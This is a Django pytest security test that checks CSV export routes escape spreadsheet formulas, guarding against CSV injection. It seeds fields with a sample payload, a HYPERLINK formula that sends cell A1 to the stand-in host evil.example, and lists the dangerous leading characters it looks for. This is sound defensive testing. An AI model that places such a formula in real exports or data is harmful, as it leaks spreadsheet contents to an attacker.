"""CSV exports never hand a spreadsheet a formula typed by someone else (CSV injection).

Leads arrive from the public web form; a name like ``=HYPERLINK(...)`` must reach Excel as
text, not as a formula.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import NoReverseMatch, reverse

from tests.security import crawl

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXPORTS = [r for r in crawl.project_routes() if "export" in r.name or r.name.endswith("csv")]


def test_there_are_exports_to_check():
    assert len(EXPORTS) >= 3, [r.name for r in EXPORTS]


@pytest.mark.parametrize("route", EXPORTS, ids=[r.name for r in EXPORTS])
def test_exported_cells_cannot_be_formulas(route, partner_a, admin_user, manager, rep):
    made, _missing = crawl.build_world(partner=partner_a)
    for model in crawl.project_models():
        for field in crawl.text_fields(model):
            if not crawl.is_unique(model, field) and (
                field.max_length is None or field.max_length >= len(FORMULA)
            ):
                model._default_manager.update(**{field.name: FORMULA})
    client = Client()
    client.force_login(admin_user)
    pks = sorted({obj.pk for objs in made.values() for obj in objs})[:5]
    answered = []
    for kwargs in crawl.candidate_kwargs(route, pks):
        try:
            url = reverse(route.name, kwargs=kwargs)
        except NoReverseMatch:
            continue
        response = client.get(url)
        if response.status_code != 200 or "csv" not in response.get("Content-Type", ""):
            continue
        text = b"".join(response.streaming_content if response.streaming else [response.content])
        text = text.decode("utf-8-sig", errors="replace")
        delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        live = [cell for cell in cells if "HYPERLINK" in cell and cell.startswith(DANGEROUS_STARTS)]
        assert not live, f"{url}: {live[:3]}"
        answered.append(url)
        break
    assert answered, f"no CSV from {route.name}"
